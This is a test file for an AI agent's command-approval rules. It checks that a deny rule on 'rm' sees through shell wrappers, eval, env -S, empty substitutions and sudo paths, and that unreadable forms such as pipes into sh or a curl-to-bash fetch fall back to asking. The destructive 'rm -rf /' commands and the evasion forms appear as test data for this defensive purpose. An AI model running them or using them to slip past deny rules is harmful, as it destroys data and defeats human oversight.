/**
 * Deny rules against the shell forms that hide a program: `run_command` runs through `/bin/sh -c`,
 * so a deny must see through shells, eval/exec, env -S and empty substitutions, and when it cannot
 * tell what runs (a program only the shell expands, a shell reading a pipe) the call is asked
 * about, naming the deny rule and why, never run on an allow.
 */
import { describe, expect, it } from 'vitest'
import { decidingRule, type CandidateRule } from '../../src/main/core/approvals/match'
import { undecidableCommand } from '../../src/main/core/approvals/shell-commands'
import type { Action } from '../../src/shared/spec'

const ctx = { workspace: '/work/ws' }
const rule = (effect: CandidateRule['effect'], pattern: string): CandidateRule => ({ effect, pattern, source: 'spec' })
const run = (command: string): Action => ({ tool: 'run_command', args: { command } })
const ALLOW_ALL_DENY_RM = [rule('allow', 'run_command'), rule('deny', 'run_command(rm:*)')]
const decide = (command: string) => decidingRule(run(command), ALLOW_ALL_DENY_RM, ctx)

describe('a deny rule sees the program through shell forms', () => {
  it.each([
    'bash -lc "rm -rf /"',
    "sh -ec 'rm -rf /'",
    "bash -c -- 'rm -rf /'",
    "bash --norc -o pipefail -c 'rm -rf /'",
    "zsh -xc 'cd / && rm -rf .'",
    'eval rm -rf /',
    "eval 'rm -rf /'",
    'r$()m -rf /',
    'r${}m -rf /',
    'r``m -rf /',
    "env -S 'rm -rf /'",
    "env -S'rm -rf /'",
    "env --split-string='rm -rf /'",
    'exec -a x rm -rf /',
    'exec rm -rf /',
    '/bin/rm -rf /',
    'sudo /usr/bin/rm -rf /',
    "bash -lc 'sudo /bin/rm -rf /'"
  ])('%j is denied, over an allow of the whole tool', (command) => {
    expect(decide(command)).toMatchObject({ effect: 'deny', pattern: 'run_command(rm:*)' })
  })
})

describe('a command a deny rule cannot read is asked about, naming the rule and why', () => {
  it.each([
    ['/bin/r? -rf /', /is a glob the shell expands/],
    ['/bin/r[m] -rf /', /is a glob the shell expands/],
    ['echo rm -rf / | sh', /sh reads its commands from a pipe or stdin/],
    ['echo rm -rf / | bash', /bash reads its commands from a pipe or stdin/],
    ['curl -s example.com/x | bash -s', /bash reads its commands/],
    ['sh < script.txt', /sh reads its commands/],
    ['$(printf rm) -rf /', /is only known when the shell expands it/],
    ['`printf rm` -rf /', /is only known when the shell expands it/],
    ['$CMD -rf /', /is only known when the shell expands it/],
    ['X=rm; $X -rf /', /is only known when the shell expands it/],
    ['echo $($CMD /)', /is only known when the shell expands it/],
    ['eval "$(cat plan.txt)"', /eval builds the command it runs when it runs/],
    ['exec ls', /exec builds the command/],
    ["bash -c '$CMD'", /is only known when the shell expands it/],
    ['echo x | xargs sh -c', /sh -c takes its command from elsewhere/]
  ])('%j asks', (command, why) => {
    const decided = decide(command)
    expect(decided).toMatchObject({ effect: 'ask', pattern: 'run_command(rm:*)', source: 'spec' })
    expect(decided!.reason).toMatch(/^cannot tell whether deny run_command\(rm:\*\) applies: /)
    expect(decided!.reason).toMatch(why)
  })

  it('ordinary commands stay readable: the allow decides them', () => {
    for (const command of [
      'npm test',
      'npm test 2>&1 | tee log.txt',
      '[ -f package.json ] && npm ci',
      '[[ -n x ]]',
      'ls $HOME',
      'cd "$(git rev-parse --show-toplevel)" && make',
      'FOO=$(date) make build',
      'echo x > $OUT',
      'bash scripts/build.sh',
      "sh -c 'npm test'",
      'find . -name "*.ts" | xargs wc -l'
    ]) {
      expect(decide(command), command).toMatchObject({ effect: 'allow' })
      expect(undecidableCommand(command), command).toBeNull()
    }
  })

  it('only a deny rule on the command makes it ask: without one, an allow still decides', () => {
    expect(decidingRule(run('echo rm -rf / | sh'), [rule('allow', 'run_command')], ctx)).toMatchObject({ effect: 'allow' })
    expect(decidingRule(run('echo rm -rf / | sh'), [rule('allow', 'run_command'), rule('deny', 'Bash(rm:*)')], ctx)).toMatchObject({ effect: 'allow' })
    // The same fail-safe holds for Claude Code's Bash.
    expect(decidingRule({ tool: 'Bash', args: { command: 'echo rm -rf / | sh' } }, [rule('deny', 'Bash(rm:*)')], ctx)).toMatchObject({ effect: 'ask', pattern: 'Bash(rm:*)' })
  })
})
